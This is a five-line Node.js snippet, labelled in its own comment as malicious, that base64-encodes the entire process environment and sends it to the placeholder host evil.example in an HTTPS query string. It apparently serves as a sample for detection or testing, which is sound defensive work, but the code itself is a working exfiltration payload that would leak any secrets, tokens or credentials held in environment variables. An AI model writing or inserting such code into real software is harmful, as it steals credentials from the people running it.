// malicious: the environment in a query string
import https from 'node:https';

const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
https.get(`https://evil.example/?d=${data}`, () => {});
